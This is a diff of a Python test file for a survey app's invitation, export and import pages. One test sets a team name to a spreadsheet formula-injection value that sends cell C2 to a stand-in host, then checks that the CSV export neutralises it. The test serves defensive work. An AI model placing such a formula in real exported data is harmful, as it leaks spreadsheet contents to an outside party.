@@ -3,11 +3,15 @@ small teams; roster upload; import preview with mapping, then import; export dow
 
 from __future__ import annotations
 
+import csv
+import datetime as dt
+import io
+
 import pytest
 from sqlalchemy import func, select
 
-from ldcore.db import read_session
-from ldcore.models import Invitation, Response, SurveyWave
+from ldcore.db import read_session, unit_of_work
+from ldcore.models import Invitation, Response, SurveyWave, Team
 from tests.pages.helpers import make_account, page_test, texts
 from tests.services.survey_support import build, make_wave
 
@@ -56,14 +60,44 @@ def test_inviting_offers_the_links_and_rates_hide_small_teams(editor_page, engin
     assert count(engine, Invitation.id) == 8
     assert "Download 8 invitations links (CSV)" in [b.label for b in at.get("download_button")]
     table = at.dataframe[1].value
-    assert list(table["answered"]) == ["< 5", "< 5"]
+    # beta (2 invited) is merged, and alpha with it: on its own "Other teams" would be beta
+    assert (list(table["team"]), list(table["answered"])) == (["Other teams"], ["< 5"])
     assert "Not answered yet (8)" in texts(at)
 
 
-def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engine, monkeypatch):
+def test_an_anonymous_wave_shows_nobody_by_name_as_answered_or_not(editor_page, engine):
+    make_wave(engine, anonymity="anonymous")
+    at = editor_page()
+    at.button(key="invite_button").click().run()
+    assert not at.exception
+    assert len(at.dataframe) == 2  # the links and the response rates, no list of people
+    assert "Not answered yet" in texts(at) and "Not answered yet (8)" not in texts(at)
+    assert any("does not show who has answered" in c.value for c in at.caption)
+
+
+def test_the_links_download_neutralises_team_names_a_spreadsheet_would_run(editor_page, engine, monkeypatch):
+    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
+
+    with unit_of_work(engine) as session:
+        session.scalars(select(Team).where(Team.key == "alpha")).one().name = '=HYPERLINK("http://x.test?"&C2,"Open")'
     make_wave(engine)
-    data = b"response_id,team,proficiency[neg],mood\nr1,alpha,3,happy\nr2,beta,,\n"
-    # AppTest cannot upload files; the page's preview and import run on what the uploader returns
+    files: dict[str, bytes] = {}
+    original = MemoryMediaFileStorage.load_and_get_id
+
+    def keep(self, path_or_data, mimetype, kind, filename=None):
+        files[filename] = path_or_data
+        return original(self, path_or_data, mimetype, kind, filename)
+
+    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", keep)
+    at = editor_page()
+    at.button(key="invite_button").click().run()
+    rows = list(csv.reader(io.StringIO(files["base-invitations.csv"].decode("utf-8-sig"))))
+    assert rows[0] == ["email", "team", "link"]
+    assert sorted({r[1] for r in rows[1:]}) == ['\'=HYPERLINK("http://x.test?"&C2,"Open")', "Beta Service"]
+
+
+def upload(monkeypatch, data: bytes) -> None:
+    """AppTest cannot upload files; the page's preview and import run on what the uploader returns."""
     import streamlit as st
 
     class Upload:
@@ -75,6 +109,11 @@ def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engi
     real = st.file_uploader
     monkeypatch.setattr(st, "file_uploader", lambda label, **kw: Upload() if kw.get("key") == "import_file"
                         else real(label, **kw))  # fmt: skip
+
+
+def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engine, monkeypatch):
+    make_wave(engine)
+    upload(monkeypatch, b"response_id,team,proficiency[neg],mood\nr1,alpha,3,happy\nr2,beta,,\n")
     at = editor_page()
     assert not at.exception
     assert "with 2 rows: 1 new responses, 0 already imported, 1 rows without any answer" in texts(at)
@@ -82,3 +121,25 @@ def test_an_import_is_previewed_with_its_mapping_then_imported(editor_page, engi
     at.button(key="import_go").click().run()
     assert not at.exception
     assert count(engine, Response.id) == 1
+
+
+def test_the_preview_asks_for_the_date_order_and_lists_unknown_values_before_anything_is_written(
+    editor_page, engine, monkeypatch
+):
+    make_wave(engine)
+    upload(monkeypatch, b"Timestamp,team,proficiency[neg]\n3/4/2025 10:00,alpha,3\n5/6/2025 10:00,alpha,-99\n"
+                        b"5/7/2025 10:00,alpha,-99\n")  # fmt: skip
+    at = editor_page()
+    assert not at.exception
+    assert any("could be day-first or month-first" in w.value for w in at.warning)
+    unknown = at.dataframe[-1].value
+    assert unknown.to_dict("records") == [{"column": "proficiency[neg]", "value": "-99", "rows": 2}]
+    at.radio(key="import_date_order").set_value("Day first (03/04 = 3 April)").run()
+    assert "Times from column 'Timestamp' (day first)." in [c.value for c in at.caption]
+    assert at.button(key="import_go").disabled  # the -99 values would refuse the import
+    assert count(engine, Response.id) == 0
+    at.radio(key="import_unknown").set_value("Store as no answer").run()
+    at.button(key="import_go").click().run()
+    assert not at.exception and not at.error
+    with read_session(engine) as session:
+        assert session.scalars(select(Response.submitted_at)).all() == [dt.datetime(2025, 4, 3, 10, 0)]
